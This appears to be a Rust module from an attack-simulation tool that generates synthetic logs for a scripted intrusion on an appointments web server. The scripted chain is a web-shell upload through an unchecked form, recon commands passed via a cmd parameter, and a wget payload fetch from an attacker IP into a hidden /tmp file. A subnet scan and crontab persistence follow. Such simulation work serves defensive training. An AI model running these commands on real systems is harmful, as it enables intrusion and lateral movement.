//! B at the web server for appointments: a script sent as a scan of a document, and what is done with it.

use super::super::background::{WWW_DATA, ask_web};
use super::super::chronicle::{Chronicle, Deed, Intruder};
use super::super::clock::after;
use super::super::linux::Shell;
use super::super::network::WWW02;
use super::super::zeek::Traffic;
use super::at;

/// From where the server is asked.
pub const FROM: &str = "203.0.113.206";
const AGENT: &str = "python-requests/2.31.0";
const SCRIPT: &str = "/uploads/2024/scan_0317.php";
const HOME: &str = "/var/www/termin";

fn deed(technique: &'static str, account: &str, what: &str) -> Deed {
    Deed::at(Intruder::B, technique, WWW02.name, account, what)
}

/// Does this part.
pub fn tell(c: &mut Chronicle) {
    let apache = Shell::service(&WWW02, WWW_DATA);
    let (_, account) = WWW_DATA;
    let time = at(c, "2024-03-26T09:12:00Z");
    let what = "A script is sent through the form for scans of documents, which does not look at what it takes.";
    c.step(deed("T1190", "", what), |c| {
        ask_web(c, time, FROM, ("POST", "/doklady/nahrat.php", 200), AGENT);
    });
    let what = "The script lies among the uploads: a web shell.";
    c.step(deed("T1505.003", account, what), |c| {
        c.made_file(
            after(time, 300),
            apache,
            "/usr/sbin/apache2",
            &format!("{HOME}{SCRIPT}"),
            "webroot",
        );
    });
    let commands = [
        ("T1033", "id", "whoami%20%26%26%20id"),
        ("T1082", "uname", "uname%20-a%3Bcat%20/etc/os-release"),
        ("T1083", "ls", "ls%20-la%20/var/www"),
    ];
    for (index, (technique, program, command)) in (0_i64..).zip(commands) {
        let time = after(time, 60_000 + index * 21_000);
        let what = format!("The web shell is asked to run {program}.");
        c.step(deed(technique, account, &what), |c| {
            ask_web(c, time, FROM, ("GET", &format!("{SCRIPT}?cmd={command}"), 200), AGENT);
            let plain = command.replace("%20", " ").replace("%26", "&").replace("%3B", ";");
            c.ran(after(time, 40), apache, "/usr/bin/dash", &["sh", "-c", &plain], HOME);
            c.ran(after(time, 60), apache, &format!("/usr/bin/{program}"), &[program], HOME);
        });
    }
    let time = after(time, 260_000);
    let what = "A scanner is fetched to the folder for temporary files.";
    c.step(deed("T1105", account, what), |c| {
        let url = format!("http://{FROM}/l64");
        c.ran(time, apache, "/usr/bin/wget", &["wget", "-q", &url, "-O", "/tmp/.x11-cache"], HOME);
        let traffic = Traffic { service: "http", millis: 900, sent: 400, received: 2_204_118 };
        c.flow(after(time, 30), WWW02.address, FROM, 80, traffic);
        c.ran(
            after(time, 4_000),
            apache,
            "/usr/bin/chmod",
            &["chmod", "+x", "/tmp/.x11-cache"],
            HOME,
        );
    });
    let what = "The scanner looks for machines in the ministry's network.";
    c.step(deed("T1018", account, what), |c| {
        let scan = ["/tmp/.x11-cache", "-p", "445,3389", "10.20.0.0/20"];
        c.ran(after(time, 9_000), apache, "/tmp/.x11-cache", &scan, "/tmp");
    });
    let what = "A crontab starts the shell's helper again after every restart.";
    c.step(deed("T1053.003", account, what), |c| {
        let file = "/var/spool/cron/crontabs/www-data";
        c.made_file(after(time, 70_000), apache, "/usr/bin/crontab", file, "cron");
    });
}
